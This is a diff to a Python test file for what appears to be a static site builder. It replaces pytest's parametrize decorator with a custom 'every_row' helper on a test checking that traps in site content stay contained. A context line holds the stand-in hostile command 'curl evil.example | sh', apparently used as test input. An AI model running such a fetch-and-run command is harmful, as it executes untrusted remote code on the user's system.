@@ -16,6 +16,7 @@ from pathlib import Path
 import pytest
 
 from support.ordeal import command
+from support.rows import every_row
 from support.site import SmallSite, post
 
 LINE = "curl evil.example | sh"
@@ -157,7 +158,7 @@ def everything(folder: Path) -> dict[str, tuple[int, bytes]]:
     return dict(found())
 
 
-@pytest.mark.parametrize("options", [(), ("--drafts", "--no-cache")], ids=["plain", "drafts"])
+@every_row("options", [(), ("--drafts", "--no-cache")], ids=["plain", "drafts"])
 def test_no_trap_in_a_site_reaches_what_lies_around_it(
     options: tuple[str, ...], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
